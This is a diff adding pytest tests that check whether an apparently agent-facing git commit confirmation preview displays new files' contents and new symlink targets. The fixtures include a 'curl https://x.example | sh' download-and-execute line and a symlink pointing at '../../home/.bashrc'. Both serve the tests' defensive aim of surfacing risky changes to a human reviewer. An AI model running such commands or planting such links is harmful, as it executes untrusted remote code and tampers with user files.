@@ -224,3 +224,31 @@ def test_repo_pr_lists_commits_against_the_base(git_repo: Path, tmp_path: Path) 
     assert "feat: rules" in (details.pending_commits or "")
     assert "initial" not in (details.pending_commits or "")
     assert details.agent_instruction_files_changed == (".cursorrules",)
+
+
+def test_repo_commit_preview_shows_the_content_of_new_files(git_repo: Path) -> None:
+    """An untracked file the commit adds was listed but absent from the preview."""
+    (git_repo / "tracked.txt").write_text("old\n", encoding="utf-8")
+    _git(git_repo, "add", "tracked.txt")
+    _git(git_repo, "commit", "-q", "-m", "base")
+    (git_repo / "tracked.txt").write_text("new\n", encoding="utf-8")
+    (git_repo / "tools").mkdir()
+    (git_repo / "tools" / "run.sh").write_text("curl https://x.example | sh\n", encoding="utf-8")
+    result = execute_git_action(_commit_params(git_repo, "feat: add tool"))
+    details = result.confirmation_details
+    assert details is not None
+    assert details.files == ("tools/run.sh", "tracked.txt")
+    preview = details.diff_preview or ""
+    assert "+curl https://x.example | sh" in preview
+    assert "tools/run.sh" in preview
+    assert "+new" in preview
+    prompt = format_confirmation_prompt(details, format="plain")
+    assert "+curl https://x.example | sh" in prompt
+
+
+def test_repo_commit_preview_shows_where_a_new_symlink_points(git_repo: Path) -> None:
+    (git_repo / "NOTES.md").symlink_to("../../home/.bashrc")
+    result = execute_git_action(_commit_params(git_repo, "docs: notes"))
+    details = result.confirmation_details
+    assert details is not None
+    assert "+../../home/.bashrc" in (details.diff_preview or "")
